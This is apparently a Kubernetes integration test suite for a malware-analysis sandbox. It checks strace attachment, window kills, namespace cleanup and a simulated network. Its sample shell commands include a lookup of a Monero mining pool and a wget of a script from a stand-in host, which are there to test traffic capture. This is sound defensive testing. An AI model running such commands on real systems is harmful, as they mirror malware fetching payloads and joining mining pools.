/**
 * The Kubernetes runtime against a real cluster (npm run test:k8s; needs KUBECONFIG). Runs whole
 * detonations through the real client adapter, API server and kubelet: namespace + guards + pod
 * accepted by the server, probe sidecar attached before the sample's first execve, trace read back
 * through the pod log API, window kill, namespace deleted, reaper.
 *
 * The cluster needs (kind: `kind load docker-image …`; k3s: `k3s ctr images import …`):
 *   K8S_PROBE_IMAGE   the probe image (deploy/probe-image), default quarantine/probe:latest
 *   K8S_SAMPLE_IMAGE  an image with /bin/sh, default busybox:1.36
 *   K8S_NETSIM_IMAGE  the network simulator image (deploy/netsim-image), default quarantine/netsim:latest
 * Optional: K8S_RUNTIME_CLASS (e.g. gvisor) to run the samples under that RuntimeClass.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createStraceParser } from '#analysis/probes/strace-parser';
import { ClientNodeKubeClient } from '#sandbox/kubernetes/kube-client';
import { KubernetesRuntime } from '#sandbox/kubernetes/kubernetes-runtime';
import type { ResolvedImage, SandboxSpec } from '#sandbox/sandbox-runtime';

if (!process.env.KUBECONFIG) throw new Error('the real-cluster suite needs KUBECONFIG (run it through npm run test:k8s)');

const client = new ClientNodeKubeClient();
const sampleImage = process.env.K8S_SAMPLE_IMAGE ?? 'busybox:1.36';
const runtime = new KubernetesRuntime({
  client,
  resolveImage: async () => image([]),
  probeImage: process.env.K8S_PROBE_IMAGE ?? 'quarantine/probe:latest',
  netsimImage: process.env.K8S_NETSIM_IMAGE ?? 'quarantine/netsim:latest',
  workerServiceAccount: { namespace: 'quarantine', name: 'quarantine-worker' },
  startAllowanceSeconds: 240,
});
const analysisPrefix = `k8s-it-${Date.now().toString(36)}`;
let work: string;

function image(argv: string[]): ResolvedImage {
  return { imageId: sampleImage, digest: sampleImage, repoDigests: [], repoTags: [sampleImage], entrypoint: argv, cmd: [], user: '', env: [], workingDir: '' };
}

function spec(id: string, argv: string[], windowSeconds: number, network?: SandboxSpec['network']): SandboxSpec {
  return {
    ...(network ? { network } : {}),
    analysisId: `${analysisPrefix}-${id}`,
    hold: true,
    image: image(argv),
    runtime: 'runc',
    capabilities: 'default',
    probe: 'strace',
    limits: { memoryBytes: 64 * 1024 ** 2, pids: 64, cpus: 0.5, windowSeconds, outputBytes: 4096, traceBytes: 16 * 1024 ** 2 },
    kubernetes: process.env.K8S_RUNTIME_CLASS ? { runtimeClassName: process.env.K8S_RUNTIME_CLASS } : {},
  };
}

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'q-k8s-it-'));
});
afterAll(async () => {
  rmSync(work, { recursive: true, force: true });
  // Whatever a failed test left: every namespace of this run.
  const left = await client.listNamespaces('quarantine.io/sandbox=true');
  for (const ns of left.filter((n) => (n.labels['quarantine.io/analysis-id'] ?? '').startsWith(analysisPrefix))) await client.deleteNamespace(ns.name);
});

async function detonate(id: string, argv: string[], windowSeconds: number, network?: SandboxSpec['network']) {
  const sandbox = await runtime.create(spec(id, argv, windowSeconds, network));
  try {
    const target = await sandbox.start();
    const tracePath = join(work, `${id}.trace`);
    const session = await sandbox.attachProbe!('strace', tracePath, { budgetBytes: 16 * 1024 ** 2 });
    sandbox.release(target);
    const exit = await sandbox.wait(new AbortController().signal);
    const probe = await session.stop(10_000);
    const output = await sandbox.output(4096);
    const net = await sandbox.networkStatus?.();
    return { sandbox, target, exit, probe, output, net, trace: readFileSync(tracePath, 'utf8').split('\n').filter(Boolean) };
  } finally {
    await sandbox.destroy();
  }
}

async function namespacesOf(id: string) {
  return client.listNamespaces(`quarantine.io/sandbox=true,quarantine.io/analysis-id=${analysisPrefix}-${id}`);
}

it('detonates a sample: strace attached before its first execve, trace and output through the API, namespace deleted', async () => {
  const r = await detonate('hello', ['/bin/sh', '-c', 'echo hello-from-k8s; cat /etc/hostname; wget -q -T 2 -O- http://10.0.0.1/ || echo egress-blocked'], 60);
  expect(r.exit).toMatchObject({ exitCode: 0, windowExpired: false });
  expect(r.probe).toMatchObject({ complete: true, exitCode: 0 });
  const events: { type: string }[] = [];
  const parser = createStraceParser((e) => events.push(e));
  for (const l of r.trace) parser.write(l);
  parser.end();
  expect(events.find((e) => e.type === 'execve')).toBeDefined();
  expect(r.trace.find((l) => l.includes('execve('))).toContain('"/bin/sh"');
  expect(r.output.stdout).toContain('hello-from-k8s');
  expect(r.output.stdout).toContain('egress-blocked');
  for (const ns of await namespacesOf('hello')) expect(ns.phase).toBe('Terminating');
}, 300_000);

it('kills a sample at the end of its window (activeDeadlineSeconds lowered) and still deletes the namespace', async () => {
  const r = await detonate('sleeper', ['/bin/sleep', '600'], 5);
  expect(r.exit.windowExpired).toBe(true);
  expect(r.exit.runMs).toBeLessThan(60_000);
  for (const ns of await namespacesOf('sleeper')) expect(ns.phase).toBe('Terminating');
}, 300_000);

it('the reaper deletes a namespace left behind by a crashed worker', async () => {
  await runtime.create(spec('orphan', ['/bin/true'], 5)); // never started, never destroyed: a crash
  expect((await namespacesOf('orphan')).length).toBe(1);
  expect(await runtime.reap({ now: new Date() })).not.toContainEqual(expect.stringContaining('orphan')); // not yet past its deadline
  const removed = await runtime.reap({ now: new Date(Date.now() + 24 * 3600_000) });
  expect(removed.some((n) => n.includes('orphan'))).toBe(true);
  for (const ns of await namespacesOf('orphan')) expect(ns.phase).toBe('Terminating');
}, 120_000);

it('simulated network: the simulator pod answers DNS and HTTP, records both, and is the only peer', async () => {
  const capturePath = join(work, 'net.ndjson');
  const r = await detonate(
    'netsim',
    ['/bin/sh', '-c', 'nslookup pool.supportxmr.com; wget -q -T 3 -O- http://updates.example/x.sh; wget -q -T 2 -O- http://10.0.0.1/ || echo literal-ip-blocked'],
    60,
    { mode: 'simulated', capturePath },
  );
  expect(r.net).toMatchObject({ mode: 'simulated', simulatorHealthy: true });
  const records = readFileSync(capturePath, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { kind: string; dns?: { name: string }; http?: { host: string; path: string } });
  expect(records.some((c) => c.kind === 'dns' && c.dns?.name === 'pool.supportxmr.com')).toBe(true);
  expect(records.some((c) => c.kind === 'http' && c.http?.host === 'updates.example' && c.http.path === '/x.sh')).toBe(true);
  expect(r.output.stdout).toContain('literal-ip-blocked');
}, 300_000);
